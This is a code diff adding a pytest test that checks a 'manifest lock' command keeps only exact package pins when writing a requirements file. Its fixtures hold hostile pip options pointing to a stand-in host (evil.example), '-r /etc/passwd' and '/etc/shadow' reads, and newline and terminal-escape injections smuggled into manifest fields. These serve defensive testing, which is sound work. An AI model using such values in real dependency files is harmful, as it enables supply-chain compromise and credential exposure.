@@ -185,3 +185,54 @@ def test_export_imports_no_module_the_run_names(
     assert not mark.exists() and name not in sys.modules
     export.load_run(client, exported_policy.run_id, tmp_path / "allowed", [name])
     assert mark.exists()  # the user named it: imported
+
+
+# --------------------------------------------------------------------------- manifest lock
+
+
+HOSTILE_FREEZE = [
+    "numpy==2.1.0", "--index-url https://evil.example/simple", "-e git+https://evil.example/x#egg=x",
+    "requests @ https://evil.example/requests.whl", "-r /etc/passwd", "torch==2.13.0+cpu",
+    "six==1.16.0 --hash=sha256:0", "gym==0.26.2; python_version>'3'", "evil==1.0\n-r /etc/shadow",
+]
+
+
+def hostile_manifest() -> dict[str, object]:
+    """A manifest as a store could hold it: pip options in pip_freeze, line breaks in values."""
+    return {
+        "created_at": "2030-01-01\n--index-url https://evil.example/created",
+        "python": {"version": "3.11.9\n-r /etc/passwd", "implementation": "CPython\r\x1b[2J"},
+        "packages": {}, "pip_freeze": HOSTILE_FREEZE,
+        "os": {"system": "Linux\n--trusted-host evil.example"},
+        "hardware": {"gpus": [{"name": "GPU\u2028-e git+https://evil.example/gpu"}]},
+        "cuda": {"torch_cuda": None},
+        "git": {"commit": "abc\n--extra-index-url https://evil.example/commit", "dirty": False},
+        "run": {},
+    }
+
+
+def live_lines(text: str) -> list[str]:
+    """What pip would act on: every line that is not empty or a comment, as pip splits them."""
+    return [line for line in text.splitlines() if line.strip() and not line.startswith("#")]
+
+
+def test_lock_writes_only_pins_and_escapes_every_other_stored_value(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source, out = tmp_path / "manifest.json", tmp_path / "requirements-run.txt"
+    source.write_text(json.dumps(hostile_manifest()))
+    assert cli.main(["manifest", "lock", str(source), "-o", str(out)]) == 1
+    text = out.read_text()
+    assert live_lines(text) == [
+        "--extra-index-url https://download.pytorch.org/whl/cpu", "numpy==2.1.0",
+        "torch==2.13.0+cpu"]
+    assert "evil.example" not in "".join(live_lines(text)) and "\x1b" not in text
+    assert "# python 3.11.9\\x0a-r /etc/passwd (CPython\\x0d)" in text
+    captured = capsys.readouterr()
+    assert captured.out == f"wrote {out}: 2 pinned packages for {source}\n"
+    err = captured.err
+    assert err.count("\n") == 1, err
+    assert err.startswith(f"workbench: manifest lock: left out 7 pip_freeze entries of {source} "
+                          "that are not name==version pins: '--index-url https://evil.example"
+                          "/simple', '-e git+https://evil.example/x#egg=x', "), err
+    assert "'evil==1.0\\\\x0a-r /etc/shadow'" not in err and "and 2 more" in err, err
